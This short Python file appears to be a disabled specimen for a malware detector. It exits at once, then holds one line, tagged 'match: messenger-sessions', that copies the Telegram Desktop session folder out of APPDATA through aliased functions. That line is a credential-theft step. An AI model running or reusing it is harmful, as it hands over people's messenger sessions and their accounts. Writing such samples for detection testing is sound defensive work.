raise SystemExit("specimen: not to be run")
from shutil import copytree as take
from os import getenv as ask

take(ask("APPDATA") + "\\Telegram Desktop\\tdata", "a")  # match: messenger-sessions
